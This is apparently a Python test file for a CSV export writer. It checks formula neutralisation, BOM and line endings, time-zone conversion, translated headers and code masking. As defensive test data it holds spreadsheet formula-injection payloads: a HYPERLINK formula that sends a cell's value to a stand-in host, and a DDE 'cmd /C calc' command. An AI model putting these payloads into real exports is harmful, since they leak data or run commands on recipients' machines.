"""The one CSV writer of every export: formulas neutralised, BOM, local times, translated headers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest

from service.kit.csv import csv_bytes
from service.kit.masking import mask_code

LIVE_LINK = '=HYPERLINK("http://x.example/?"&B2,"点")'


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    "cell",
    [LIVE_LINK, "=1+1", "+86 138", "-2+3", "@SUM(A1:A9)", "\t=1", "\rcmd", "=cmd|' /C calc'!A0"],
)
def test_cells_a_spreadsheet_would_run_get_a_quote(cell: str) -> None:
    rows = _rows(csv_bytes(["Name"], [[cell]], tz="UTC"))
    assert rows[1] == ["'" + cell]


def test_plain_text_and_numbers_stay_as_they_are() -> None:
    rows = _rows(
        csv_bytes(["a", "b", "c", "d", "e"], [["王小明", -5, 3.5, Decimal("-1.20"), None]], tz="UTC")
    )
    assert rows[1] == ["王小明", "-5", "3.5", "-1.20", ""]


def test_bom_and_crlf_so_excel_keeps_chinese() -> None:
    data = csv_bytes(["Name"], [["王小明"]], tz="UTC")
    assert data.startswith(b"\xef\xbb\xbf") and data.count(b"\r\n") == 2


def test_times_in_the_community_time_zone() -> None:
    moment = datetime(2026, 3, 1, 16, 30, tzinfo=UTC)
    assert _rows(csv_bytes(["t"], [[moment]], tz="Asia/Shanghai"))[1] == ["2026-03-02 00:30"]
    assert _rows(csv_bytes(["t"], [[moment]], tz="Europe/London"))[1] == ["2026-03-01 16:30"]


def test_headers_in_the_readers_language() -> None:
    chinese = {"Name": "姓名", "Points": "积分"}
    data = csv_bytes(["Name", "Points"], [], tz="UTC", translate=lambda s: chinese.get(s, s))
    assert _rows(data)[0] == ["姓名", "积分"]
    assert _rows(csv_bytes(["Name", "Points"], [], tz="UTC"))[0] == ["Name", "Points"]


def test_codes_are_masked_to_their_last_two_characters() -> None:
    assert mask_code("ABCDEFK7") == "******K7"
    assert mask_code("K7") == "**"
